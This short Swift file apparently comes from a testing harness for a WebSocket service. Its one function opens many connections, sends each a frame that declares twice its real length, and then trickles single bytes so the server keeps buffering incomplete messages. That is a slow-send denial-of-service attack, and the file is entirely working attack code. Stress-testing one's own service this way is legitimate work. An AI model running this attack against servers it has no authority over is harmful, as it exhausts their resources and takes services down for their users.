import CallWire

extension AttackContext {
  /// Whoever reads a message whole before looking at it keeps what has come.
  func sendHalfFrames() {
    let half = [UInt8](repeating: 0x68, count: 60_000)
    let start = AttackBytes.frame(.binary, half, declared: 2 * half.count)
    let fleet = keepWebSockets(
      subprotocol: { _ in DeviceCodec.protobuf.subprotocol },
      opened: { [self] socket, _ in
        if socket.write(start) { account.attempts += 1 }
      })
    paceAttack { [self] in
      guard let (_, socket) = fleet.next(of: attack.facts.connections) else { return }
      if socket.write([0x68]) { account.attempts += 1 }
    }
  }
}
